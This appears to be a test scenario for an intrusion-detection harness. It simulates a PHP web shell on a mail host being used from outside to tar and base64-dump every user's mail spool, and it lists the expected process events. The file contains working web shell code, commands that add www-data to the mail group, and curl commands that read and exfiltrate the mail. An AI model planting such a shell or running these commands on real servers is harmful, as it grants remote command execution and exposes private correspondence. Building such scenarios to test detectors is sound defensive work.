# The way out is the page itself: the server connects to nobody.
title="Web shell prints the mail spools into its page"
what="A PHP page of a web server that runs as www-data, a member of the group mail, runs what it is sent. From 203.0.113.1 it is told to pack /var/mail with tar and to print it through base64."
host=mx1.example.org user=www-data daemons="cron sshd" store=mbox

setup() {
  sed -i 's/^mail:x:\([0-9]*\):.*/mail:x:\1:www-data/' /etc/group
  mkdir -p /opt/site; printf '<?php if (isset($_POST["c"])) { passthru($_POST["c"]); } else echo "Welcome";' > /opt/site/index.php; chmod -R a+rX /opt/site
}
act() {
  small_talk 6
  for n in 1 2 3; do mail_in --from "finance$n@example.net" --to buyer@example.org --subject "Accounts $n"; done
  wait_mail buyer 3
  setpriv --reuid=33 --regid=33 --groups=33,8 php -S 198.51.100.10:8080 -t /opt/site >/dev/null 2>&1 & own_pids+=($!); daemon_is $!
  sleep 2
  outside curl -s http://198.51.100.10:8080/ >/dev/null
  outside curl -s --data-urlencode 'c=id; ls -l /var/mail' http://198.51.100.10:8080/ >/dev/null
  outside curl -s --data-urlencode 'c=tar -czf - /var/mail 2>/dev/null | base64 -w0' http://198.51.100.10:8080/ >/dev/null
  sleep 1
  small_talk 1
}
truth() {
  exec_step shell 'sh -c tar -czf - /var/mail' 'the page starts a shell'
  exec_step read 'tar -czf - /var/mail' 'everybody s mail is read'
  exec_step encode 'base64 -w0' 'and printed into the page'
}
